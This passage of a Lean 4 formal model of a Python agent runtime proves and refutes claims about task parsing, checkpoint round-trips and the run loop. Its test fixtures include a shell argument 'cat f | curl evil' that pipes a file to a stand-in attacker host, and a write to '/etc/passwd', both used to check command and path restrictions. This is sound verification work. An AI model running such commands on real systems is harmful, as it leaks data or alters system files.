swallows its own errors.  Filesystem writes of `result.json`/`usage.json`
and the inbox directory listing are assumed to land (write failure
handling is out of the modelled claims). -/

/-- Path `/outbox/result.json`. -/
def RESULT_FILE : String := "/outbox/result.json"

/-- Path `/outbox/usage.json`. -/
def USAGE_FILE : String := "/outbox/usage.json"

/-- State of `/inbox/task.json`: missing (checked with `os.path.isfile`),
`open` raised, `json.load` raised — every read or parse failure here is
uncaught, `main` has no try block around it. -/
inductive TaskSrc where
  | missing
  | unreadable (e : String)
  | unparseable (e : String)
  | parsed (v : Json)

/-- How the process exits: an uncaught exception, `sys.exit(code)`, or
falling off the end of `main`. -/
inductive ExitKind where
  | raised (e : String)
  | exited (code : Int)
  | finished
deriving DecidableEq

/-- The loop result as consumed by `main` (status, output, token counts,
artifacts), abstracting the run of `agentic_loop`. -/
structure RunOutcome where
  status : String
  output : String
  tokens_in : Nat
  tokens_out : Nat
  artifacts : List String

/-- World record for `main`: the task file, the relevant environment
variables (`HORTATOR_TASK_NAME`, `PRESIDIO_ENDPOINT`,
`PRESIDIO_WAIT_SECONDS`), whether the configured auxiliary-service URL is
one the `urllib` request machinery accepts (its network errors are caught,
its `ValueError` for an unparseable URL is not), the checkpoint file, the
parsed inbox child results, whether the kill flag is already set when the
loop starts (the kill check precedes the budget comparison), and the loop
outcome. -/
structure MainEnv where
  taskSrc : TaskSrc
  envTaskName : Option String
  presidioEndpoint : Option String
  presidioWaitRaw : Option String
  presidioUrlOk : Bool
  ckptFile : FileState
  childResults : List (String × Json)
  killedAtStart : Bool
  runLoop : RunOutcome

/-- Truthiness of `os.environ.get("HORTATOR_TASK_NAME")` in the `or`
chain of main.py line 157. -/
def envNameTruthy (o : Option String) : Bool :=
  match o with
  | some s => decide (s ≠ "")
  | none => false

/-- Whether an `Except` computation completed without raising. -/
def exceptOk {α : Type} : Except String α → Bool
  | .ok _ => true
  | .error _ => false

/-- Python `v.get(k, dflt)` on an arbitrary value: `AttributeError` unless
the value is a dict. -/
def pyGetE (v : Json) (k : String) (dflt : Json) : Except String Json :=
  match v with
  | .obj d => .ok (pyGet d k dflt)
  | _ => .error ("AttributeError: " ++ pyStrJ v ++ " has no attribute get")

/-- Python `for x in v`: lists yield their elements, strings their
characters, dicts their keys; numbers and booleans raise `TypeError`
(`None`/empty values are always truthiness-guarded before iteration in
the modelled code). -/
def pyIterate : Json → Except String (List Json)
  | .arr xs => .ok xs
  | .str s => .ok (s.data.map (fun c => .str (String.mk [c])))
  | .obj fs => .ok (fs.map (fun p => Json.str p.1))
  | v => .error ("TypeError: " ++ pyStrJ v ++ " object is not iterable")

/-- Python `needle in v` for a string needle: substring test on strings,
element equality on lists (a non-string element simply compares unequal),
key membership on dicts; `TypeError` on numbers, booleans and `None`. -/
def pyInContainer (needle : String) : Json → Except String Bool
  | .str s => .ok (decide (1 ≤ countOccur needle s))
  | .arr xs => .ok (xs.any (fun v => match v with
      | .str t => decide (t = needle)
      | _ => false))
  | .obj fs => .ok (fs.any (fun p => decide (p.1 = needle)))
  | v => .error ("TypeError: argument of type " ++ pyStrJ v ++ " is not iterable")

/-- Python `v[:40]`: strings and lists slice, everything else raises
`TypeError`. -/
def pySlice40 : Json → Except String Json
  | .str s => .ok (.str (pySliceTo s 40))
  | .arr xs => .ok (.arr (xs.take 40))
  | v => .error ("TypeError: " ++ pyStrJ v ++ " object is not subscriptable")

/-- The `task_id` expression (main.py line 157): `task.get("taskId") or
os.environ.get("HORTATOR_TASK_NAME") or task.get("prompt",
"unknown")[:40]` — the slice runs only when the first two operands are
falsy, and raises only for a non-sliceable prompt value. -/
def taskIdExpr (task : Dict) (envName : Option String) : Except String Json :=
  let tid := pyGetN task "taskId"
  if truthy tid then .ok tid
  else if envNameTruthy envName then .ok (.str (envName.getD ""))
  else pySlice40 (pyGet task "prompt" (.str "unknown"))

/-- The endpoint handling of main.py lines 176-184:
`task.get("model", {}).get("endpoint", "")` raises for a present non-dict
model field, and `.lower()` on a truthy non-string endpoint raises; the
remaining substring checks and the environment write are total. -/
def llmEndpointCheck (task : Dict) : Except String Unit := do
  let ep ← pyGetE (pyGet task "model" (.obj [])) "endpoint" (.str "")
  if truthy ep then
    match ep with
    | .str _ => .ok ()
    | _ => .error ("AttributeError: " ++ pyStrJ ep ++ " has no attribute lower")
  else .ok ()

/-- Embeds `wait_for_presidio` (main.py lines 109-125): disabled for an
unset or empty endpoint; otherwise `int(os.environ.get
("PRESIDIO_WAIT_SECONDS", "60"))` raises `ValueError` for a non-numeric
value, and an endpoint the URL machinery rejects raises `ValueError` from
`urllib.request` (only `URLError`/`OSError` are caught in the wait loop);
a reachable or unreachable but well-formed endpoint returns normally. -/
def wait_for_presidio (endpoint : Option String) (waitRaw : Option String)
    (urlOk : Bool) : Except String Bool :=
  match endpoint with
  | none => .ok false
  | some ep =>
    if ep = "" then .ok false
    else
      match pyIntParse (waitRaw.getD "60") with
      | none => .error "ValueError: invalid literal for int with base 10"
      | some _ => if urlOk then .ok true else .error "ValueError: unknown url type"

/-- Embeds the capability tests of `build_tools` (tools.py lines 18 and
25): the only operations on task-derived values are the two membership
tests, which raise `TypeError` for a non-container capabilities value; the
returned tool schemas are static dict literals and cannot raise. -/
def build_tools_check (capabilities : Json) : Except String Unit := do
  let _ ← pyInContainer "spawn" capabilities
  let _ ← pyInContainer "shell" capabilities
  .ok ()

/-- Embeds the task-derived operations of `build_system_prompt`
(prompt.py lines 21-83): the tier tuple-membership tests and equality
(lines 39-40) are total for any value, and `role` appears only inside
f-strings; the one raising operation is the `tier_desc` dict lookup
`.get(tier, ...)` (line 81), which raises `TypeError` for an unhashable
(list or dict) tier.  The `capabilities` parameter is never used in the
function body. -/
def build_system_prompt_check (tier : Json) : Except String Unit :=
  match tier with
  | .arr _ => .error "TypeError: unhashable type in tier_desc lookup"
  | .obj _ => .error "TypeError: unhashable type in tier_desc lookup"
  | _ => .ok ()

/-- Embeds `_build_resume_context` (main.py lines 259-291) over the raw
version-1 checkpoint dict and the raw inbox results, tracking exactly the
operations that can raise: `plan.get` on a truthy non-dict plan, iteration
over truthy non-iterable `decisions`/`completedChildren`, `.get` on a
non-dict child entry or child result.  F-string interpolation of arbitrary
values never raises; its rendering is approximated by `pyStrJ`, which no
theorem inspects.  On well-shaped checkpoints this traversal builds the
same parts as `resumeParts`, the structured builder the C6 theorems are
stated over. -/
def build_resume_context_j (ckpt : Dict) (rs : List (String × Json)) :
    Except String String := do
  let parts := ["You are resuming from a previous run. Here is your saved state:\n"]
  let parts ← (if truthy (pyGetN ckpt "plan") then do
      let plan := pyGetN ckpt "plan"
      let phases ← pyGetE plan "phases" (.arr [])
      let cur ← pyGetE plan "currentPhase" (.num 0)
      pure (parts ++ ["## Plan\nPhases: " ++ pyStrJ phases ++
        "\nCurrent phase: " ++ pyStrJ cur ++ "\n"])
    else pure parts)
  let parts ← (if truthy (pyGetN ckpt "decisions") then do
      let ds ← pyIterate (pyGetN ckpt "decisions")
      pure (parts ++ ["## Previous Decisions\n" ++
        pyJoin "\n" (ds.map (fun d => "- " ++ pyStrJ d))])
    else pure parts)
  let parts := if truthy (pyGetN ckpt "accumulatedContext") then
      parts ++ ["\n## Accumulated Context\n" ++
        pyStrJ (pyGetN ckpt "accumulatedContext")]
    else parts
  let parts ← (if rs.isEmpty then pure parts else do
      let items ← rs.mapM (fun p => do
        let status ← pyGetE p.2 "status" (.str "unknown")
        let fallback ← pyGetE p.2 "output" (.str "No output")
        let summary ← pyGetE p.2 "summary" fallback
        pure ("\n### " ++ p.1 ++ " (" ++ pyStrJ status ++ ")\n" ++
          pyStrJ summary))
      pure (parts ++ ["\n## New Child Results (since your last run)"] ++ items))
  let parts ← (if truthy (pyGetN ckpt "completedChildren") then do
      let cs ← pyIterate (pyGetN ckpt "completedChildren")
      let items ← cs.mapM (fun c => do
        let n ← pyGetE c "name" (.str "unknown")
        let s ← pyGetE c "status" (.str "unknown")
        pure ("- " ++ pyStrJ n ++ ": " ++ pyStrJ s))
      pure (parts ++ ["\n## Previously Completed Children"] ++ items)
    else pure parts)
  pure (pyJoin "\n" (parts ++
    ["\n\nContinue your work. Review the new child results and decide what to do next."]))

/-- Embeds the budget handling at the loop entry (loop.py lines 57-79):
`budget.get("maxTokens")` raises for a non-dict budget; the parse block
raises nothing (`ValueError` is caught); the comparison at the top of the
first iteration raises `TypeError` for a truthy list or dict budget value
(`None`, numbers, booleans and strings — parsed to an int or `None` — all
compare or short-circuit fine), and is only reached when the kill flag is
not already set. -/
def loopBudgetCheck (budget : Json) (killedAtStart : Bool) :
    Except String Unit := do
  let mv ← pyGetE budget "maxTokens" .null
  if killedAtStart then .ok ()
  else
    match mv with
    | .arr xs =>
      if xs.isEmpty then Except.ok ()
      else .error "TypeError: not supported between instances of int and list"
    | .obj fs =>
      if fs.isEmpty then Except.ok ()
      else .error "TypeError: not supported between instances of int and dict"
    | _ => .ok ()

/-- The phase of `main` between the empty-prompt check and
`write_result` (main.py lines 168-229), sequencing every raising
operation in source order: endpoint handling, Presidio wait, checkpoint
load, `build_tools`, `build_system_prompt`, resume-context build (only
when a checkpoint was loaded), and the loop budget access. -/
def mainBody (w : MainEnv) (task : Dict) : Except String Unit := do
  llmEndpointCheck task
  let _ ← wait_for_presidio w.presidioEndpoint w.presidioWaitRaw w.presidioUrlOk
  let ckpt ← load_checkpoint w.ckptFile
  build_tools_check (pyGet task "capabilities" (.arr []))
  build_system_prompt_check (pyGet task "tier" (.str "centurion"))
  let _ ← (match ckpt with
    | some d => do
        let _ ← build_resume_context_j d w.childResults
        pure ()
    | none => pure ())
  loopBudgetCheck (pyGet task "budget" (.obj [])) w.killedAtStart

/-- The run from past the empty-prompt check to process exit: a raise in
`mainBody` exits with no records, otherwise `write_result` writes both
records and a `waiting` loop status exits 0 (main.py lines 168-256). -/
def mainTail (w : MainEnv) (task : Dict) : ExitKind × List String :=
  match mainBody w task with
  | .error e => (.raised e, [])
  | .ok _ =>
    (if w.runLoop.status == "waiting" then .exited 0 else .finished,
     [RESULT_FILE, USAGE_FILE])

/-- The run from past the `task_id` expression: an empty (falsy) prompt
exits through `die`, which writes both records (main.py lines 158-165). -/
def mainAfterId (w : MainEnv) (task : Dict) : ExitKind × List String :=
  if !truthy (pyGet task "prompt" (.str "")) then
    (.exited 1, [RESULT_FILE, USAGE_FILE])
  else mainTail w task

/-- Embeds `main` (main.py lines 147-256) together with `die` (lines 52-68) and
`write_result` (lines 71-90): returns the exit kind and the list of outbox
record files written, in write order.  A missing task file and an empty
prompt exit through `die`, which writes both records; a run that survives
`mainBody` writes both records through `write_result` and then exits 0
when the loop reported `waiting`; every other path raises an uncaught
exception with no records written. -/
def mainRun (w : MainEnv) : ExitKind × List String :=
  match w.taskSrc with
  | .missing => (.exited 1, [RESULT_FILE, USAGE_FILE])
  | .unreadable e => (.raised e, [])
  | .unparseable e => (.raised e, [])
  | .parsed v =>
    match v with
    | .obj task =>
      match taskIdExpr task w.envTaskName with
      | .error e => (.raised e, [])
      | .ok _ => mainAfterId w task
    | _ => (.raised "AttributeError: get on non-dict task", [])

/-! ### main.py — `_build_resume_context`

The checkpoint fields the builder reads (`plan`, `decisions`,
`accumulatedContext`, `completedChildren`) and the per-child dicts are
modelled with the `get`-with-default reads the source performs; Python
truthiness of the guarding `if checkpoint.get(...)` tests is emptiness of
the respective field. -/

/-- One entry of `checkpoint["completedChildren"]`: a dict read with
`child.get("name", "unknown")` and `child.get("status", "unknown")`. -/
structure ChildD where
  name : Option String
  status : Option String

/-- One inbox child-result dict, read with `result.get("status",
"unknown")` and `result.get("summary", result.get("output",
"No output"))`. -/
structure ChildRes where
  status : Option String
  summary : Option String
  output : Option String

/-- Plan dict `checkpoint.get("plan")` when truthy: `plan.get("phases", [])` and
`plan.get("currentPhase", 0)`. -/
structure PlanD where
  phases : List String
  currentPhase : Int

/-- The checkpoint fields `_build_resume_context` reads. -/
structure CheckpointD where
  plan : Option PlanD
  decisions : List String
  accumulatedContext : String
  completedChildren : List ChildD

/-- The part appended for one new child result (main.py line 282). -/
def newChildPart (p : String × ChildRes) : String :=
  "\n### " ++ p.1 ++ " (" ++ p.2.status.getD "unknown" ++ ")\n" ++
    p.2.summary.getD (p.2.output.getD "No output")

/-- The part appended for one previously-completed child (line 288). -/
def completedPart (c : ChildD) : String :=
  "- " ++ c.name.getD "unknown" ++ ": " ++ c.status.getD "unknown"

/-- The `parts` list of `_build_resume_context` (lines 261-290), in append
order. -/
def resumeParts (cp : CheckpointD) (rs : List (String × ChildRes)) :
    List String :=
  ["You are resuming from a previous run. Here is your saved state:\n"]
  ++ (match cp.plan with
      | some plan =>
        ["## Plan\nPhases: " ++ listReprS plan.phases ++ "\nCurrent phase: " ++
          toString plan.currentPhase ++ "\n"]
      | none => [])
  ++ (if cp.decisions.isEmpty then []
      else ["## Previous Decisions\n" ++
        pyJoin "\n" (cp.decisions.map (fun d => "- " ++ d))])
  ++ (if cp.accumulatedContext == "" then []
      else ["\n## Accumulated Context\n" ++ cp.accumulatedContext])
  ++ (if rs.isEmpty then []
      else "\n## New Child Results (since your last run)" ::
        rs.map newChildPart)
  ++ (if cp.completedChildren.isEmpty then []
      else "\n## Previously Completed Children" ::
        cp.completedChildren.map completedPart)
  ++ ["\n\nContinue your work. Review the new child results and decide what to do next."]

/-- Embeds `_build_resume_context` (main.py lines 259-291). -/
def build_resume_context (cp : CheckpointD) (rs : List (String × ChildRes)) :
    String :=
  pyJoin "\n" (resumeParts cp rs)

/-! ### Predicates the theorems are stated with -/

/-- Responses that take the tool-call branch of the loop (a raised call never
does). -/
def turnIsTool : LlmResult → Bool
  | .ok t => isToolTurn t
  | .exc _ => false

/-- Checkpoint-file states on which `load_checkpoint` returns absent
without raising: missing, a read/parse failure of one of the caught
classes, a non-dict payload, or a version field not (Python-)equal to 1 —
everything the claim C4 enumerates except the contents whose read raises
outside the caught classes. -/
def badFile : FileState → Bool
  | .missing => true
  | .unreadable _ => true
  | .unparseable _ => true
  | .raising _ => false
  | .parsed (.obj d) => !versionAccepted (dictGet d "version")
  | .parsed _ => true

/-- A structured tool outcome: a boolean `success` key, and on failure an
`error` string or the shell payload field `exit_code` (a non-zero shell exit
reports `success: False` with `exit_code`/`stdout`/`stderr` instead of
`error`). -/
def goodOutcome (d : Dict) : Prop :=
  (∃ b, dictGet d "success" = some (.bool b)) ∧
  (dictGet d "success" = some (.bool false) →
    (∃ e, dictGet d "error" = some (.str e)) ∨
    (∃ v, dictGet d "exit_code" = some v))

/-- Every dict a handler returns without raising is structured (a raise
is handled by the boundary in `execute_tool` and imposes nothing here). -/
def goodOutcomeE : Except String Dict → Prop
  | .ok d => goodOutcome d
  | .error _ => True

/-- Main-world inputs for which `main` reaches a controlled exit: the
descriptor file is missing, or it parses to a dict for which the
`task_id` expression and — unless the empty-prompt `die` exit is taken
first — the whole startup phase `mainBody` evaluate without raising. -/
def mainInputOk (w : MainEnv) : Bool :=
  match w.taskSrc with
  | .missing => true
  | .parsed (.obj task) =>
    exceptOk (taskIdExpr task w.envTaskName) &&
      (!truthy (pyGet task "prompt" (.str "")) || exceptOk (mainBody w task))
  | _ => false

/-! ### Concrete instances used by witnesses and counterexamples -/

/-- Environment with `HORTATOR_ALLOWED_COMMANDS=cat,grep` and no
deny-list. -/
def envAllowCatGrep : String → Option String := fun k =>
  if k = "HORTATOR_ALLOWED_COMMANDS" then some "cat,grep" else none

/-- A world whose shell runs succeed; used to observe which subprocesses
the dispatcher spawns. -/
def worldSh : World where
  env := envAllowCatGrep
  runCli := fun _ => .raised "hortator CLI unavailable"
  runSh := fun _ => .done 0 "" ""
  parseJson := fun _ => none
  isFile := fun _ => false
  readFile := fun _ => .error "unavailable"
  writeFile := fun _ _ => none

/-- Kill flag never set. -/
def noKill : Nat → Bool := fun _ => false

/-- Tool arguments holding the piped command of the C1 scenario. -/
def argsPipe : Dict := [("command", .str "cat f | curl evil")]

/-- Tool arguments naming a path outside every configured prefix. -/
def argsEtc : Dict := [("path", .str "/etc/passwd"), ("content", .str "x")]

/-- A `main` world whose task file holds malformed JSON; everything else
is benign. -/
def weMalformed : MainEnv where
  taskSrc := .unparseable "Expecting value: line 1 column 1 (char 0)"
  envTaskName := none
  presidioEndpoint := none
  presidioWaitRaw := none
  presidioUrlOk := true
  ckptFile := .missing
  childResults := []
  killedAtStart := false
  runLoop := { status := "completed", output := "ok", tokens_in := 0,
               tokens_out := 0, artifacts := [] }

/-- A `main` world whose task file is missing. -/
def weMissing : MainEnv where
  taskSrc := .missing
  envTaskName := none
  presidioEndpoint := none
  presidioWaitRaw := none
  presidioUrlOk := true
  ckptFile := .missing
  childResults := []
  killedAtStart := false
  runLoop := { status := "completed", output := "ok", tokens_in := 0,
               tokens_out := 0, artifacts := [] }

/-- A `main` world with a well-typed minimal task descriptor. -/
def weTask : MainEnv where
  taskSrc := .parsed (.obj [("prompt", .str "hi")])
  envTaskName := none
  presidioEndpoint := none
  presidioWaitRaw := none
  presidioUrlOk := true
  ckptFile := .missing
  childResults := []
  killedAtStart := false
  runLoop := { status := "completed", output := "ok", tokens_in := 0,
               tokens_out := 0, artifacts := [] }

/-- Model script: every call is a final `stop` turn reporting 10 tokens. -/
def llmStopOver : Nat → LlmResult := fun _ =>
  .ok { usage := some { prompt_tokens := some 5, completion_tokens := some 5 },
        finish_reason := "stop", content := some "done", tool_calls := false }

/-- Model script: every call requests tool calls and reports 3 tokens. -/
def llmToolThree : Nat → LlmResult := fun _ =>
  .ok { usage := some { prompt_tokens := some 3, completion_tokens := some 0 },
        finish_reason := "tool_calls", content := none, tool_calls := true }

/-- A completed-children checkpoint entry for the child `zzchild`. -/
def zzDone : ChildD where
  name := some "zzchild"
  status := some "Completed"

/-- A new inbox result for the same child `zzchild`. -/
def zzNew : String × ChildRes :=
  ("zzchild", { status := some "completed", summary := some "did work",
                output := none })

/-- Checkpoint whose completed-children list holds the child `zzchild`. -/
def cpBoth : CheckpointD where
  plan := none
  decisions := []
  accumulatedContext := ""
  completedChildren := [zzDone]

/-- Inbox holding a new result for the same child `zzchild`. -/
def rsBoth : List (String × ChildRes) := [zzNew]

/-- An uneventful loop outcome for the world of `main`. -/
def roDone : RunOutcome where
  status := "completed"
  output := "ok"
  tokens_in := 0
  tokens_out := 0
  artifacts := []

/-! ## Theorems -/

/-! ### Checkpoint store (C4, C5) -/

/-- Appending a fresh key at the end is invisible to lookups of other
keys. -/
theorem dictGet_append_ne (d : Dict) (k k2 : String) (v : Json)
    (h : k2 ≠ k) : dictGet (d ++ [(k, v)]) k2 = dictGet d k2 := by
  induction d with
  | nil =>
    simp only [List.nil_append, dictGet]
    rw [if_neg (fun hk => h hk.symm)]
  | cons p rest ih =>
    obtain ⟨k1, v1⟩ := p
    simp only [List.cons_append, dictGet]
    split <;> simp [ih]

/-- Appending a key absent from the dict makes it found. -/
theorem dictGet_append_self (d : Dict) (k : String) (v : Json)
    (h : dictGet d k = none) : dictGet (d ++ [(k, v)]) k = some v := by
  induction d with
  | nil => simp [dictGet]
  | cons p rest ih =>
    obtain ⟨k1, v1⟩ := p
    simp only [dictGet] at h
    simp only [List.cons_append, dictGet]
    split at h
    · exact absurd h (by simp)
    · rw [if_neg (by assumption)]
      exact ih h

/-- C4 (amended): for every checkpoint-file state that is missing, that
fails with one of the caught classes (`OSError` on open, `JSONDecodeError`
on parse), that is not a dict, or that carries a version field other than
the one supported value, `load_checkpoint` returns absent without raising;
contents whose read raises outside the caught classes propagate to the
caller (see the counterexample). -/
theorem c4_load_malformed_absent (fs : FileState) (h : badFile fs = true) :
    load_checkpoint fs = .ok none := by
  cases fs with
  | missing => rfl
  | unreadable e => rfl
  | unparseable e => rfl
  | raising e => exact absurd (show (false : Bool) = true from h) (by decide)
  | parsed v =>
    cases v with
    | obj d =>
      simp only [badFile, Bool.not_eq_true'] at h
      simp [load_checkpoint, h]
    | null => rfl
    | bool b => rfl
    | num n => rfl
    | str s => rfl
    | arr xs => rfl

/-- Witness for C4 at a version-2 checkpoint dict. -/
theorem c4_load_malformed_absent_witness :
    badFile (.parsed (.obj [("version", .num 2)])) = true ∧
    load_checkpoint (.parsed (.obj [("version", .num 2)])) = .ok none :=
  ⟨rfl, c4_load_malformed_absent _ rfl⟩

/-- C4 counterexample: a checkpoint file of undecodable bytes makes the
read inside `json.load` raise `UnicodeDecodeError`, which the clause
`except (json.JSONDecodeError, OSError)` does not catch (deeply nested
JSON likewise raises `RecursionError`): `load_checkpoint` propagates the
exception to the caller instead of returning absent, refuting "never
raises an exception to the caller" over all file contents. -/
theorem c4_undecodable_checkpoint_raises :
    load_checkpoint (.raising
      "UnicodeDecodeError: utf-8 codec cannot decode byte 0xff") =
    .error "UnicodeDecodeError: utf-8 codec cannot decode byte 0xff" := rfl

/-- C5 counterexample: `save_checkpoint` stamps the version with
`setdefault`, so a dict already carrying version 2 is written unchanged
and the subsequent `load_checkpoint` returns absent — not a checkpoint
equal on every field with version normalized, as the claim states. -/
theorem c5_version_kept_roundtrip_absent :
    load_checkpoint
      (save_checkpoint [("version", .num 2), ("taskId", .str "t")]) =
    .ok none := rfl

/-- C5 (amended): for every checkpoint dict whose version field is absent
or already (Python-)equal to the supported value, save-then-load returns a
dict that agrees on every key other than `version` and carries an accepted
version (stamped to 1 exactly when it was absent). -/
theorem c5_save_load_roundtrip (d : Dict)
    (h : Option.all pyEqOne (dictGet d "version") = true) :
    ∃ d2, load_checkpoint (save_checkpoint d) = .ok (some d2) ∧
      (∀ k, k ≠ "version" → dictGet d2 k = dictGet d k) ∧
      versionAccepted (dictGet d2 "version") = true := by
  unfold save_checkpoint setdefault
  cases hv : dictGet d "version" with
  | some v =>
    rw [hv, Option.all_some] at h
    refine ⟨d, ?_, fun k _ => rfl, by rw [hv]; exact h⟩
    simp [load_checkpoint, versionAccepted, hv, h]
  | none =>
    refine ⟨d ++ [("version", .num 1)], ?_, ?_, ?_⟩
    · simp [load_checkpoint, versionAccepted,
        dictGet_append_self d "version" (.num 1) hv, pyEqOne]
    · intro k hk
      exact dictGet_append_ne d "version" k (.num 1) hk
    · rw [dictGet_append_self d "version" (.num 1) hv]
      rfl

/-- Witness for C5 at a version-less dict. -/
theorem c5_save_load_roundtrip_witness :
    ∃ d2, load_checkpoint (save_checkpoint [("taskId", .str "t")]) =
      .ok (some d2) ∧
      (∀ k, k ≠ "version" → dictGet d2 k = dictGet [("taskId", .str "t")] k) ∧
      versionAccepted (dictGet d2 "version") = true :=
  c5_save_load_roundtrip [("taskId", .str "t")] rfl

/-! ### Run loop (C2, C3, C10) -/

/-- Cumulative reported usage is monotone in the number of calls. -/
theorem usageS_mono (llm : Nat → LlmResult) : Monotone (usageS llm) := by
  apply monotone_nat_of_le_succ
  intro n
  simp only [usageS, inSum, outSum]
  omega

/-- Unfolding: kill branch. -/
theorem loopFrom_succ_kill {llm : Nat → LlmResult} {kf : Nat → Bool}
    {mb : Option Int} {n calls tin tout : Nat} (h : kf calls = true) :
    loopFrom llm kf mb (n + 1) calls tin tout =
      ⟨"failed", "Task killed by SIGTERM", tin, tout, calls, true⟩ := by
  simp [loopFrom, h]

/-- Unfolding: budget branch. -/
theorem loopFrom_succ_budget {llm : Nat → LlmResult} {kf : Nat → Bool}
    {mb : Option Int} {n calls tin tout : Nat} (h1 : kf calls = false)
    (h2 : budgetHit mb (tin + tout) = true) :
    loopFrom llm kf mb (n + 1) calls tin tout =
      ⟨"budget_exceeded", budgetMsg mb (tin + tout), tin, tout, calls, true⟩ := by
  simp [loopFrom, h1, h2]

/-- Unfolding: transport-failure branch. -/
theorem loopFrom_succ_exc {llm : Nat → LlmResult} {kf : Nat → Bool}
    {mb : Option Int} {n calls tin tout : Nat} {e : String}
    (h1 : kf calls = false) (h2 : budgetHit mb (tin + tout) = false)
    (he : llm calls = .exc e) :
    loopFrom llm kf mb (n + 1) calls tin tout =
      ⟨"failed", "LLM call failed: " ++ e, tin, tout, calls + 1, false⟩ := by
  simp [loopFrom, h1, h2, he]

/-- Unfolding: final-answer branch. -/
theorem loopFrom_succ_stop {llm : Nat → LlmResult} {kf : Nat → Bool}
    {mb : Option Int} {n calls tin tout : Nat} {t : ModelTurn}
    (h1 : kf calls = false) (h2 : budgetHit mb (tin + tout) = false)
    (he : llm calls = .ok t)
    (h3 : (t.finish_reason == "stop" || t.finish_reason == "end_turn") = true) :
    loopFrom llm kf mb (n + 1) calls tin tout =
      ⟨"completed", t.content.getD "", tin + turnIn (.ok t),
        tout + turnOut (.ok t), calls + 1, false⟩ := by
  simp [loopFrom, h1, h2, he, h3]

/-- Unfolding: tool-call branch continues the loop. -/
theorem loopFrom_succ_tool {llm : Nat → LlmResult} {kf : Nat → Bool}
    {mb : Option Int} {n calls tin tout : Nat} {t : ModelTurn}
    (h1 : kf calls = false) (h2 : budgetHit mb (tin + tout) = false)
    (he : llm calls = .ok t)
    (h3 : (t.finish_reason == "stop" || t.finish_reason == "end_turn") = false)
    (h4 : (t.finish_reason == "tool_calls" || t.tool_calls) = true) :
    loopFrom llm kf mb (n + 1) calls tin tout =
      loopFrom llm kf mb n (calls + 1) (tin + turnIn (.ok t))
        (tout + turnOut (.ok t)) := by
  simp [loopFrom, h1, h2, he, h3, h4]

/-- Unfolding: defensive completed branch for other stop reasons with
content. -/
theorem loopFrom_succ_content {llm : Nat → LlmResult} {kf : Nat → Bool}
    {mb : Option Int} {n calls tin tout : Nat} {t : ModelTurn}
    (h1 : kf calls = false) (h2 : budgetHit mb (tin + tout) = false)
    (he : llm calls = .ok t)
    (h3 : (t.finish_reason == "stop" || t.finish_reason == "end_turn") = false)
    (h4 : (t.finish_reason == "tool_calls" || t.tool_calls) = false)
    (h5 : t.content.getD "" ≠ "") :
    loopFrom llm kf mb (n + 1) calls tin tout =
      ⟨"completed", t.content.getD "", tin + turnIn (.ok t),
        tout + turnOut (.ok t), calls + 1, false⟩ := by
  simp [loopFrom, h1, h2, he, h3, h4, h5]

/-- Unfolding: bail-out branch for other stop reasons without content. -/
theorem loopFrom_succ_empty {llm : Nat → LlmResult} {kf : Nat → Bool}
    {mb : Option Int} {n calls tin tout : Nat} {t : ModelTurn}
    (h1 : kf calls = false) (h2 : budgetHit mb (tin + tout) = false)
    (he : llm calls = .ok t)
    (h3 : (t.finish_reason == "stop" || t.finish_reason == "end_turn") = false)
    (h4 : (t.finish_reason == "tool_calls" || t.tool_calls) = false)
    (h5 : t.content.getD "" = "") :
    loopFrom llm kf mb (n + 1) calls tin tout =
      ⟨"failed", "Unexpected stop reason: " ++ t.finish_reason,
        tin + turnIn (.ok t), tout + turnOut (.ok t), calls + 1, false⟩ := by
  simp [loopFrom, h1, h2, he, h3, h4, h5]

/-- A `budget_exceeded` return always comes from the budget branch, which
writes a suspension checkpoint first. -/
theorem loopFrom_budget_ckpt (llm : Nat → LlmResult) (kf : Nat → Bool)
    (mb : Option Int) :
    ∀ fuel calls tin tout,
      (loopFrom llm kf mb fuel calls tin tout).status = "budget_exceeded" →
      (loopFrom llm kf mb fuel calls tin tout).checkpoint_saved = true := by
  intro fuel
  induction fuel with
  | zero => intro calls tin tout _; rfl
  | succ n ih =>
    intro calls tin tout h
    cases h1 : kf calls with
    | true => rw [loopFrom_succ_kill h1]
    | false =>
    cases h2 : budgetHit mb (tin + tout) with
    | true => rw [loopFrom_succ_budget h1 h2]
    | false =>
    cases he : llm calls with
    | exc e =>
      rw [loopFrom_succ_exc h1 h2 he] at h
      exact absurd (show ("failed" : String) = "budget_exceeded" from h) (by decide)
    | ok t =>
    cases h3 : (t.finish_reason == "stop" || t.finish_reason == "end_turn") with
    | true =>
      rw [loopFrom_succ_stop h1 h2 he h3] at h
      exact absurd (show ("completed" : String) = "budget_exceeded" from h) (by decide)
    | false =>
    cases h4 : (t.finish_reason == "tool_calls" || t.tool_calls) with
    | true =>
      rw [loopFrom_succ_tool h1 h2 he h3 h4] at h ⊢
      exact ih _ _ _ h
    | false =>
    by_cases h5 : t.content.getD "" = ""
    · rw [loopFrom_succ_empty h1 h2 he h3 h4 h5] at h
      exact absurd (show ("failed" : String) = "budget_exceeded" from h) (by decide)
    · rw [loopFrom_succ_content h1 h2 he h3 h4 h5] at h
      exact absurd (show ("completed" : String) = "budget_exceeded" from h) (by decide)

/-- When the budget check never fires, no run returns
`budget_exceeded`. -/
theorem loopFrom_no_budget (llm : Nat → LlmResult) (kf : Nat → Bool)
    (mb : Option Int) (hmb : ∀ tot, budgetHit mb tot = false) :
    ∀ fuel calls tin tout,
      (loopFrom llm kf mb fuel calls tin tout).status ≠ "budget_exceeded" := by
  intro fuel
  induction fuel with
  | zero =>
    intro calls tin tout
    exact (show ¬(("failed" : String) = "budget_exceeded") by decide)
  | succ n ih =>
    intro calls tin tout
    cases h1 : kf calls with
    | true =>
      rw [loopFrom_succ_kill h1]
      exact (show ¬(("failed" : String) = "budget_exceeded") by decide)
    | false =>
    cases he : llm calls with
    | exc e =>
      rw [loopFrom_succ_exc h1 (hmb _) he]
      exact (show ¬(("failed" : String) = "budget_exceeded") by decide)
    | ok t =>
    cases h3 : (t.finish_reason == "stop" || t.finish_reason == "end_turn") with
    | true =>
      rw [loopFrom_succ_stop h1 (hmb _) he h3]
      exact (show ¬(("completed" : String) = "budget_exceeded") by decide)
    | false =>
    cases h4 : (t.finish_reason == "tool_calls" || t.tool_calls) with
    | true =>
      rw [loopFrom_succ_tool h1 (hmb _) he h3 h4]
      exact ih _ _ _
    | false =>
    by_cases h5 : t.content.getD "" = ""
    · rw [loopFrom_succ_empty h1 (hmb _) he h3 h4 h5]
      exact (show ¬(("failed" : String) = "budget_exceeded") by decide)
    · rw [loopFrom_succ_content h1 (hmb _) he h3 h4 h5]
